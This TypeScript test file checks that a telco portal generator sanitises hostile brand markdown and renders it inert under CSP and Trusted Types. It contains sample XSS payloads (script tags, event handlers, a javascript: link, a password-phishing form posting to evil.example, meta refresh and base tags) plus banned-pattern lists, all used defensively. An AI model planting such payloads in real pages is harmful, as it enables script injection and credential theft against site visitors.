/**
 * Issue 8 "Brand markdown ships as unsanitised HTML": a brand whose terms, privacy and copy hold hostile
 * markup is generated and built; the dist must hold nothing that can run (on a static host without headers
 * too), and the portal in Chromium must run none of it — neither the sanitised file nor an unsanitised one a
 * compromised server hands out. Also: the harbour portal's own dist and headers.
 */
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { type Browser, chromium, type Page } from '@playwright/test';
import type { BrandManifest } from '@telco-portal/manifest';
import { afterAll, beforeAll, beforeEach, describe, expect, inject, it } from 'vitest';
import type { CspViolation, RunningPortal } from '../../generator/src/index.ts';
import { SHELL_FILE } from '../../generator/src/security.ts';
import { prerenderPagesOf } from '../../portal/src/prerender.tsx';
import { CHROMIUM_ARGS, CHROMIUM_PATH } from '../chromium.ts';
import { buildBrand, copyHarbour, startApp } from './harness.ts';

/** Markup an attacker (or a careless copy-paste) could put into brand markdown. */
const HOSTILE_MARKDOWN = `# Privacy

Real text stays: **we respect your privacy**. [Contact us](mailto:privacy@harbour.example).

[click me](javascript:window.__pwned='js-link')

<script>window.__pwned = 'script'</script>
<img src=x onerror="window.__pwned='onerror'">
<svg onload="window.__pwned='svg'"><script>window.__pwned='svg-script'</script></svg>
<style>body { display: none !important }</style>
<div style="position:fixed;inset:0;z-index:9999;background:#fff">Full-page overlay</div>
<form action="https://evil.example/steal"><input name="password" placeholder="Password"><button>Log in again</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<iframe src="https://evil.example/"></iframe>
<base href="https://evil.example/">
<a href="https://harbour.example/" onclick="window.__pwned='onclick'" id="legal-link">harbour</a>
`;

/** Copy with markup: it must render as text (React escapes; ICU quotes make the tag literal). */
const HOSTILE_TITLE = `Free data '<img src=x onerror=window.__pwned=1>'`;

function files(dir: string, rel = ''): string[] {
  return readdirSync(path.join(dir, rel), { withFileTypes: true }).flatMap((e) =>
    e.isDirectory() ? files(dir, path.join(rel, e.name)) : [path.join(rel, e.name)],
  );
}

let harbourApp: string;
let hostileApp: string;
let server: RunningPortal;
let browser: Browser;
const violations: CspViolation[] = [];

beforeAll(async () => {
  const brand = copyHarbour('hostile');
  writeFileSync(path.join(brand, 'privacy.md'), HOSTILE_MARKDOWN);
  for (const file of readdirSync(path.join(brand, 'terms'))) {
    writeFileSync(path.join(brand, 'terms', file), HOSTILE_MARKDOWN.replace('# Privacy', '# Terms'));
  }
  const manifest = JSON.parse(readFileSync(path.join(brand, 'brand.json'), 'utf8'));
  manifest.$schema = '../../../../packages/manifest/brand.schema.json';
  manifest.copy.en['home.hero.title'] = HOSTILE_TITLE;
  writeFileSync(path.join(brand, 'brand.json'), JSON.stringify(manifest, null, 2));
  harbourApp = inject('harbourApp');
  hostileApp = await buildBrand(brand, 'hostile');
  server = await startApp(hostileApp, { mode: 'production', onCspReport: (v) => violations.push(v) });
  // --short-reporting-delay: Chromium sends Reporting API (report-to) reports at once instead of batching a minute.
  browser = await chromium.launch({
    executablePath: CHROMIUM_PATH,
    args: [...CHROMIUM_ARGS, '--short-reporting-delay'],
  });
});
afterAll(async () => {
  await browser?.close();
  await server?.close();
});

describe('given the built dist of a portal', () => {
  it('holds no .html but the app shell and the planned prerendered pages: legal documents are JSON data', () => {
    for (const app of [harbourApp, hostileApp]) {
      const manifest = JSON.parse(readFileSync(path.join(app, 'src/brand.json'), 'utf8')) as BrandManifest;
      // Exactly the guest pages × languages the route table plans (issue 7), the shell, and nothing else.
      const planned = prerenderPagesOf(manifest).map((p) => p.file);
      expect(planned).toContain('index.html');
      expect(planned.length).toBeGreaterThan(10);
      const all = files(path.join(app, 'dist'));
      expect(all.filter((f) => /\.html?$/i.test(f)).sort()).toEqual([SHELL_FILE, ...planned].sort());
      expect(all).toContain('legal/privacy.json');
      expect(all.some((f) => /^legal\/terms\/[\w-]+\.json$/.test(f))).toBe(true);
    }
  });

  it('every prerendered page carries the shell’s strict CSP and holds no script but the app’s module and its JSON data', () => {
    for (const app of [harbourApp, hostileApp]) {
      const dist = path.join(app, 'dist');
      const csp = /<meta http-equiv="Content-Security-Policy" content="[^"]+"\s*\/?>/.exec(
        readFileSync(path.join(dist, SHELL_FILE), 'utf8'),
      )?.[0];
      expect(csp).toMatch(/require-trusted-types-for 'script'/);
      const manifest = JSON.parse(readFileSync(path.join(app, 'src/brand.json'), 'utf8')) as BrandManifest;
      for (const { file } of prerenderPagesOf(manifest)) {
        const html = readFileSync(path.join(dist, file), 'utf8');
        expect(html, file).toContain(csp!);
        const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)];
        for (const [, attrs, body] of scripts) {
          // An external module (no body), or the page's data as JSON (not executable).
          if (/\bsrc=/.test(attrs!)) expect(body, file).toBe('');
          else
            expect(attrs, `${file}: an inline script`).toMatch(/type="application\/json" id="tp-prerender"/);
        }
        expect(
          scripts.filter(([, attrs]) => !/\bsrc=/.test(attrs!)),
          file,
        ).toHaveLength(1);
        // Rendered markup: no handler attribute, no javascript: link, whatever the brand's copy and documents said.
        const body = html.slice(html.indexOf('<div id="root">'));
        expect(body, file).not.toMatch(/<[^>]+\son\w+=/i);
        expect(body, file).not.toMatch(/href="javascript:/i);
        expect(body, file).not.toMatch(/<(iframe|form action|base|meta)\b/i);
      }
    }
  });

  it('the hostile brand’s documents are sanitised at generation time: no script, handler, style, form, meta, iframe, base', () => {
    const dist = path.join(hostileApp, 'dist');
    // The .br/.gz beside each document are the same bytes compressed (generator/src/compress.ts).
    for (const file of files(dist).filter((f) => f.startsWith('legal/') && f.endsWith('.json'))) {
      const { html } = JSON.parse(readFileSync(path.join(dist, file), 'utf8')) as { html: string };
      expect(html).toContain('<strong>we respect your privacy</strong>');
      expect(html).toContain('Full-page overlay');
      for (const banned of [
        /<script/i,
        /\son\w+=/i,
        /<style/i,
        /\sstyle=/i,
        /<form/i,
        /<input/i,
        /<meta/i,
        /<iframe/i,
        /<base/i,
        /<svg/i,
        /<img/i,
        /href="javascript:/i,
        /\sid=/i,
      ]) {
        expect(html, `${file}: ${banned}`).not.toMatch(banned);
      }
    }
  });

  it('the shell carries the strict CSP, and the headers add HSTS, frame-ancestors and CSP reporting', () => {
    const html = readFileSync(path.join(harbourApp, 'dist', SHELL_FILE), 'utf8');
    expect(html).toMatch(/require-trusted-types-for 'script'; trusted-types telco-portal-legal/);
    expect(html).toContain("base-uri 'none'");
    const headers = readFileSync(path.join(harbourApp, 'dist/_headers'), 'utf8');
    expect(headers).toContain('Strict-Transport-Security: max-age=63072000; includeSubDomains');
    expect(headers).toMatch(
      /Content-Security-Policy: .*frame-ancestors 'none'; report-uri \/csp-report; report-to csp/,
    );
    expect(headers).toContain('Reporting-Endpoints: csp="/csp-report"');
  });
});

/** Opens `url`, waits for the legal article, and reports what of the hostile markup is left in the page. */
async function inspect(page: Page, url: string) {
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.goto(url);
  await page.locator('[data-slot="legal-document"]').waitFor();
  await page.waitForTimeout(300); // a meta refresh or an onerror would have fired by now
  return {
    dialogs,
    url: page.url(),
    pwned: await page.evaluate(() => (window as { __pwned?: string }).__pwned ?? null),
    article: await page.evaluate(() => {
      const article = document.querySelector('[data-slot="legal-document"]')!;
      const all = [...article.querySelectorAll('*')];
      return {
        tags: [...new Set(all.map((e) => e.tagName.toLowerCase()))].sort(),
        attributes: [...new Set(all.flatMap((e) => [...e.attributes].map((a) => a.name)))].sort(),
        hrefs: all.flatMap((e) => (e.getAttribute('href') ? [e.getAttribute('href')!] : [])),
        text: article.textContent ?? '',
      };
    }),
    bodyVisible: await page.evaluate(() => getComputedStyle(document.body).display !== 'none'),
    base: await page.evaluate(() => document.baseURI),
  };
}

function expectInert(found: Awaited<ReturnType<typeof inspect>>, origin: string) {
  expect(found.dialogs).toEqual([]);
  expect(found.pwned).toBeNull();
  expect(new URL(found.url).origin).toBe(origin); // no meta refresh
  expect(found.base.startsWith(origin)).toBe(true); // no <base>
  expect(found.bodyVisible).toBe(true); // no <style>
  for (const tag of ['script', 'style', 'form', 'input', 'button', 'meta', 'iframe', 'base', 'svg', 'img']) {
    expect(found.article.tags, tag).not.toContain(tag);
  }
  expect(found.article.attributes.filter((a) => a.startsWith('on') || a === 'style' || a === 'id')).toEqual(
    [],
  );
  expect(found.article.hrefs.filter((h) => !/^(https?:|mailto:)/.test(h))).toEqual([]);
  expect(found.article.text).toContain('we respect your privacy');
}

describe('given the portal in Chromium (CSP with Trusted Types)', () => {
  beforeEach(() => {
    violations.length = 0;
  });

  it('renders the hostile privacy document as inert text, with no CSP violation', async () => {
    const page = await browser.newPage();
    try {
      expectInert(await inspect(page, `${server.url}/privacy`), server.url);
      await page.waitForTimeout(500);
      expect(violations).toEqual([]);
    } finally {
      await page.close();
    }
  });

  it('stays inert when a compromised server hands out the unsanitised markup (DOMPurify + Trusted Types in the portal)', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    try {
      const rawHtml = `<p>Real text stays: <strong>we respect your privacy</strong>.</p>${HOSTILE_MARKDOWN.split(
        '\n',
      )
        .filter((line) => line.startsWith('<') || line.startsWith('['))
        .join('\n')}<p><a href="javascript:window.__pwned='href'">click</a></p>`;
      expect(rawHtml).toContain('<script>');
      await page.route('**/legal/privacy.json', (route) =>
        route.fulfill({ contentType: 'application/json', body: JSON.stringify({ html: rawHtml }) }),
      );
      expectInert(await inspect(page, `${server.url}/privacy`), server.url);
      await page.waitForTimeout(500);
      // What the CSP blocked while DOMPurify parsed the markup (handlers, <base>) is reported; nothing
      // unsanitised reached the HTML sink (that would be a Trusted Types 'Element innerHTML' violation).
      expect(violations.filter((v) => v.sink === 'Element innerHTML')).toEqual([]);
      expect(violations.filter((v) => !['script-src-attr', 'base-uri'].includes(v.directive))).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it('enforces Trusted Types: a plain string cannot reach innerHTML, and the violation is reported', async () => {
    const page = await browser.newPage();
    try {
      await page.goto(`${server.url}/`);
      const error = await page.evaluate(() => {
        try {
          document.body.innerHTML = '<b>not trusted</b>';
          return null;
        } catch (e) {
          return (e as Error).name;
        }
      });
      expect(error).toBe('TypeError');
      // The portal server (plain HTTP) sends report-uri only: the browser reports at once.
      await expect
        .poll(() => violations.some((v) => v.sink === 'Element innerHTML'), { timeout: 10_000 })
        .toBe(true);
      expect(violations).toEqual([
        {
          directive: 'require-trusted-types-for',
          blocked: 'trusted-types-sink',
          page: '/',
          sink: 'Element innerHTML',
        },
      ]);
    } finally {
      await page.close();
    }
  });

  it('runs the sign-in form rules without a CSP report: they are zod-free (issue 7), and where zod runs it is jitless, it never probes new Function', async () => {
    const page = await browser.newPage();
    try {
      await page.goto(`${server.url}/sign-in`);
      // An empty submit runs the form's rules in the browser (core signInRules via blocks' rulesResolver).
      await page.getByRole('button', { name: 'Sign in', exact: true }).click();
      await page.getByText('Enter your e-mail address').first().waitFor();
      await page.waitForTimeout(500);
      expect(violations).toEqual([]);
    } finally {
      await page.close();
    }
  });

  it('shows brand copy with markup as text', async () => {
    const page = await browser.newPage();
    try {
      await page.goto(`${server.url}/`);
      const hero = page.locator('#home-hero-title');
      await hero.waitFor();
      expect(await hero.textContent()).toContain('<img src=x onerror=window.__pwned=1>');
      expect(await hero.locator('img').count()).toBe(0);
      expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned ?? null)).toBeNull();
      await page.waitForTimeout(500);
      expect(violations).toEqual([]);
    } finally {
      await page.close();
    }
  });
});
